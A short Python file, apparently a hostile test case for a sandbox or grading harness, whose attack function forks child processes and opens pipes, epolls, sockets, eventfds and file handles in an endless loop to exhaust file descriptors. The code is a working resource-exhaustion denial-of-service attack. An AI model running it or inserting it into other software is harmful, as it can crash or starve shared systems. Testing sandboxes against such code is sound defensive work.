"""Opens files, pipes, epolls, eventfds and sockets without end, in itself and in its children."""
# ends: error|timeout|crashed

import os
import select
import socket
import time
from contextlib import suppress


def attack(honest, *args, **kwargs):
    os.fork() or os.fork()
    kept = []
    with suppress(OSError):
        while True:
            kept += [os.pipe(), select.epoll(), socket.socket(), os.eventfd(0), open(os.devnull)]
    time.sleep(60)
